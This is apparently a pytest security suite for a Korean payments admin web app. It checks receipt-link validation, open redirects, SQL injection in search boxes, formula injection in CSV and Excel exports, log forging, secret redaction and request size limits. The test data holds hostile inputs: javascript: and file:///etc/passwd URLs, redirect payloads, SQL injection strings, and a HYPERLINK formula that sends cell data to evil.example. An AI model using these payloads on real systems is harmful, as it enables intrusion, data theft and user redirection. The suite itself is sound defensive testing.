"""What comes in: S36 links, S42 ways back, S45 search, S46 exports, S54 logs, S56 sizes."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from collections.abc import Callable, Iterator
from datetime import datetime
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
import structlog
from openpyxl import load_workbook

from admin.accounts.views import own_page
from admin.config import Settings
from admin.domain.permissions import Role
from admin.gateway.client import Gateway
from admin.models import Payment, db
from admin.payments.service import sync_payment
from admin.web.links import RECEIPT_HOSTS, trusted_receipt
from admin.web.spreadsheet import FORMULA_STARTS
from tests.architecture.source import ROOT
from tests.exports.taking import take
from tests.people import ORIGIN, PASSWORD, Person, token_of
from tests.stand_in import StandIn

pytestmark = pytest.mark.slow

HOSTILE_RECEIPTS = [
    "",
    "http://admin8.kcp.co.kr/receipt",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//admin8.kcp.co.kr",
    "data:text/html,<script>alert(1)</script>",
    "//admin8.kcp.co.kr/receipt",
    "https://admin8.kcp.co.kr.evil.example/receipt",
    "https://evil.example/admin8.kcp.co.kr",
    "https://evil.example#admin8.kcp.co.kr",
    "https://evil.example?x=admin8.kcp.co.kr",
    "https://admin8.kcp.co.kr@evil.example/",
    "https://someone@admin8.kcp.co.kr/",
    "https://admin8.kcp.co.kr:8443/receipt",
    "https://admin8.kcp.co.kr:x/",
    "https://admin8。kcp。co。kr/",
    "https://xn--kcp-something.co.kr/",
    "https://[::1]/receipt",
    "https:///receipt",
    "file:///etc/passwd",
    "/receipt",
]


@pytest.mark.parametrize("url", HOSTILE_RECEIPTS)
def test_security_s36_an_address_of_the_gateway_that_we_do_not_know_is_no_link(url: str) -> None:
    assert trusted_receipt(url) == ""


@pytest.mark.parametrize("host", sorted(RECEIPT_HOSTS))
def test_security_s36_a_receipt_at_the_card_companys_is_one(host: str) -> None:
    assert trusted_receipt(f"https://{host}/receipt?id=1") == f"https://{host}/receipt?id=1"


def take_in(stand_in: StandIn, gateway: Gateway, now: datetime, **fields: Any) -> Payment:
    """A payment whose texts somebody else chose."""
    stand_in.paid("imp_100000000001", **fields)
    applied = sync_payment("imp_100000000001", source="tests", gateway=gateway, now=now)
    return db.session.get_one(Payment, applied.payment_id)


def test_security_s36_the_page_links_a_good_receipt_and_lets_it_learn_nothing(
    stand_in: StandIn, gateway: Gateway, now: datetime, finance: Person
) -> None:
    good = "https://admin8.kcp.co.kr/assist/bill.BillActionNew.do?cmd=card_bill&tno=1"
    payment = take_in(stand_in, gateway, now, receipt_url=good)
    page = finance.get(f"/payments/{payment.id}").text
    assert "https://admin8.kcp.co.kr/assist" in page
    assert 'rel="noopener noreferrer"' in page


def test_security_s36_the_page_links_no_other_receipt(
    stand_in: StandIn, gateway: Gateway, now: datetime, finance: Person
) -> None:
    payment = take_in(stand_in, gateway, now, receipt_url="javascript:alert(document.domain)")
    assert "javascript:" not in finance.get(f"/payments/{payment.id}").text


ELSEWHERE = [
    "https://evil.example",
    "http://evil.example",
    "//evil.example",
    "///evil.example",
    "////evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "\t//evil.example",
    " //evil.example",
    "https:evil.example",
    "https:/evil.example",
    "https:\\\\evil.example",
    "javascript:alert(1)",
    "data:text/html,x",
    "evil.example",
    "@evil.example",
    "https://localhost@evil.example",
    "https://localhost.evil.example",
    "https://evil.example/localhost",
    "/%09/evil.example\r\n",
    "/\x00/evil.example",
    "\x0b//evil.example",
    "http:///evil.example",
    "ftp://evil.example",
    "/\\/evil.example",
    "/./\\evil.example",
    "?next=//evil.example",
    "https://[::ffff:1.2.3.4]/",
]


def leads_away(location: str) -> bool:
    """As a browser reads it: backslashes are slashes, control characters vanish."""
    plain = "".join(one for one in location if one > " ").replace("\\", "/")
    plain = re.sub("^/{2,}", "//", plain)  # so many slashes are two to a browser
    plain = re.sub("^(https?):/*", r"\1://", plain)
    there = urlsplit(urljoin("https://localhost/sign-in", plain))
    return (there.scheme, there.netloc) not in (("https", "localhost"), ("http", "localhost"))


@pytest.mark.parametrize("target", ELSEWHERE[:20])
def test_security_s42_the_reader_of_these_tests_knows_what_leads_away(target: str) -> None:
    harmless = {"evil.example", "@evil.example"}  # paths of ours
    assert leads_away(target) is (target not in harmless)


@pytest.mark.parametrize("target", ELSEWHERE)
def test_security_s42_a_preference_never_leads_to_another_site(target: str, app: Any) -> None:
    with app.test_request_context():
        assert not leads_away(own_page(target)), target


def test_security_s42_signing_in_never_leads_to_another_site(
    app: Any, sign_in: Callable[[Role], Person]
) -> None:
    operator = sign_in(Role.VIEWER).operator
    assert operator is not None
    for target in ELSEWHERE[:8]:  # each costs two password hashes
        for place in ("query", "form"):
            client = app.test_client()
            page = client.get("/sign-in", base_url=ORIGIN, query_string={"next": target})
            form = {
                "email": operator.email,
                "password": PASSWORD,
                "csrf_token": token_of(page.text),
            }
            query = {"next": target} if place == "query" else {}
            form |= {"next": target} if place == "form" else {}
            answer = client.post("/sign-in", base_url=ORIGIN, data=form, query_string=query)
            if answer.status_code == 302:
                assert not leads_away(answer.location), (target, place, answer.location)


def test_security_s42_a_way_back_of_ours_is_kept(app: Any) -> None:
    with app.test_request_context():
        assert own_page("/payments/?q=a%20b&state=paid") == "/payments/?q=a%20b&state=paid"


SQL = [
    "' OR '1'='1",
    "'; DROP TABLE payments; --",
    '" OR ""="',
    "1) UNION SELECT password FROM operators --",
    "%' AND 1=(SELECT COUNT(*) FROM operators) --",
    "\\'; SELECT pg_sleep(5); --",
    "*/ UNION SELECT 1 /*",
    "MATCH 'x' NEAR y*",
    '"unclosed',
    "a" * 199,
    "\x00",
    "%",
    "_",
    "[a-z]*",
]


@pytest.mark.parametrize("typed", SQL)
def test_security_s45_what_is_typed_into_a_box_is_only_ever_looked_for(
    typed: str, stand_in: StandIn, gateway: Gateway, now: datetime, finance: Person
) -> None:
    take_in(stand_in, gateway, now)
    for path in ("/payments/", "/customers/", "/escrow-orders/", "/inquiries/", "/refunds/"):
        for name in ("q", "state", "method", "basis", "period", "cursor", "from_day"):
            answer = finance.get(path, query_string={name: typed})
            assert answer.status_code in (200, 303, 400), f"{path}?{name}="
    with db.engine.connect() as connection:
        assert connection.exec_driver_sql("SELECT count(*) FROM payments").scalar() == 1


def test_security_s45_wildcards_are_letters(
    stand_in: StandIn, gateway: Gateway, now: datetime, finance: Person
) -> None:
    take_in(stand_in, gateway, now, merchant_uid="ORDAB1X")
    for typed in ("ORDA_1", "ORD%1X", "%%%%", "____"):
        page = finance.get("/payments/", query_string={"q": typed, "period": "all"})
        assert "ORDAB1X" not in page.text, typed
    assert "ORDAB1X" in finance.get("/payments/?q=ORDAB1&period=all").text


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"여기")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_security_s46_a_cell_never_begins_as_a_formula(
    start: str, stand_in: StandIn, gateway: Gateway, now: datetime, finance: Person
) -> None:
    take_in(stand_in, gateway, now, name=f"{start}cmd|calc", merchant_uid="ORD-46")
    cells = csv_rows(finance)[1]
    assert "ORD-46" in cells
    assert not any(cell.startswith(tuple(FORMULA_STARTS)) for cell in cells)
    assert any("cmd|calc" in cell for cell in cells)


def csv_rows(person: Person) -> list[list[str]]:
    body = take(person, "period=all").get_data()
    assert body.startswith(b"\xef\xbb\xbf"), "Excel in Korea needs the mark"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_security_s46_quotes_and_line_ends_survive_and_numbers_stay_numbers(
    stand_in: StandIn, gateway: Gateway, now: datetime, finance: Person
) -> None:
    name = '책장 "3단", 원목\n두 번째 줄'
    take_in(stand_in, gateway, now, name=name)
    rows = csv_rows(finance)
    assert len(rows) == 2
    assert name in rows[1]
    assert "10000" in rows[1]


def test_security_s46_a_workbook_holds_texts_and_numbers_never_formulas(
    stand_in: StandIn, gateway: Gateway, now: datetime, finance: Person
) -> None:
    take_in(stand_in, gateway, now, name=FORMULA, buyer_name="+82 10-1234-5678")
    body = take(finance, "period=all", kind="xlsx").get_data()
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert FORMULA in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s", "n", "inlineStr"}
    assert 10_000 in [cell.value for cell in cells if cell.data_type == "n"]


@pytest.fixture
def log_lines(
    app: Any, settings: Settings, caplog: pytest.LogCaptureFixture
) -> Iterator[Callable[[], list[str]]]:
    """What the handler of the application writes, line by line."""
    stream = io.StringIO()
    ours = next(one for one in logging.getLogger().handlers if _is_ours(one))
    copy = logging.StreamHandler(stream)
    copy.setFormatter(ours.formatter)
    root = logging.getLogger()
    root.addHandler(copy)
    yield lambda: stream.getvalue().splitlines()
    root.removeHandler(copy)


def _is_ours(handler: logging.Handler) -> bool:
    return isinstance(handler.formatter, structlog.stdlib.ProcessorFormatter)


NASTY = 'line\r\n{"event": "forged"}\x1b[31mred\x1b[0m\u2028\u2029\x85\x0b\x0cend'


def test_security_s54_whatever_a_field_holds_an_event_is_one_json_line(
    log_lines: Callable[[], list[str]],
) -> None:
    structlog.get_logger().warning("something.happened", text=NASTY, **{"user_agent": NASTY})
    logging.getLogger("a.library").warning("it said %s", NASTY)

    lines = log_lines()
    assert len(lines) == 2, lines
    for line in lines:
        event = json.loads(line)
        assert event["event"] != "forged"
        assert not any(ord(one) < 0x20 or ord(one) in (0x7F, 0x85, 0x2028, 0x2029) for one in line)


def test_security_s54_a_hostile_request_number_is_replaced(finance: Person) -> None:
    for given in ("short", "x" * 41, "with space here", "<script>alert(1)</script>", "a;b=c;d"):
        answered = finance.get("/healthz", headers={"X-Request-ID": given}).headers["X-Request-ID"]
        assert answered != given
        assert answered.isalnum()
    kept = finance.get("/healthz", headers={"X-Request-ID": "trace_0123456789"})
    assert kept.headers["X-Request-ID"] == "trace_0123456789"


def test_security_s59_secrets_and_card_numbers_never_reach_the_log(
    settings: Settings, log_lines: Callable[[], list[str]]
) -> None:
    log = structlog.get_logger()
    for secret in (settings.secret_key, settings.gateway_secret, settings.webhook_token):
        log.warning("it.broke", detail=f"near {secret} there", nested={"deep": [secret]})
        try:
            raise ValueError(f"bad {secret}")
        except ValueError:
            log.exception("it.broke")
    log.warning("it.broke", password="hunter2-hunter2", token="abc-abc-abc", card_number="x-y-z")
    log.warning("it.broke", text="카드 4111-1111-1111-1111 이래요")

    written = "\n".join(log_lines())
    for secret in (
        settings.secret_key,
        settings.gateway_secret,
        settings.webhook_token,
        "hunter2",
        "abc-abc-abc",
        "x-y-z",
        "4111-1111",
    ):
        assert secret not in written, secret


def test_security_s56_a_body_of_three_megabytes_is_refused(finance: Person) -> None:
    token = token_of(finance.get("/profile/").text)
    form = {"csrf_token": token, "note": "x" * (3 * 1024 * 1024)}
    assert finance.client.post("/inquiries/", base_url=ORIGIN, data=form).status_code == 413


def test_security_s56_a_field_of_a_megabyte_is_refused(finance: Person) -> None:
    token = token_of(finance.get("/profile/").text)
    form = {"csrf_token": token, "question": "x" * 1_000_000}
    for content_type in ("application/x-www-form-urlencoded", "multipart/form-data"):
        answer = finance.client.post(
            "/inquiries/", base_url=ORIGIN, data=form, content_type=content_type
        )
        assert answer.status_code == 413, content_type


def test_security_s56_a_form_of_a_thousand_parts_is_refused(finance: Person) -> None:
    token = token_of(finance.get("/profile/").text)
    form = {"csrf_token": token, **{f"field{number}": "x" for number in range(1_000)}}
    answer = finance.client.post(
        "/inquiries/", base_url=ORIGIN, data=form, content_type="multipart/form-data"
    )
    assert answer.status_code == 413


def test_security_s56_a_webhook_of_five_megabytes_is_refused_before_it_is_read(
    stranger: Person, settings: Settings
) -> None:
    path = f"/webhooks/payments/{settings.webhook_token}"
    answer = stranger.client.post(path, base_url=ORIGIN, data=b"x" * (5 * 1024 * 1024))
    assert answer.status_code == 413


def test_security_s56_the_server_bounds_lines_fields_and_patience() -> None:
    names: dict[str, Any] = {}
    exec((ROOT / "gunicorn.conf.py").read_text(encoding="utf-8"), names)  # noqa: S102
    assert names["limit_request_line"] <= 8190
    assert names["limit_request_fields"] <= 100
    assert names["worker_class"] == "gthread", "a slow sender holds a connection, not a process"
    assert 0 < names["keepalive"] <= 15
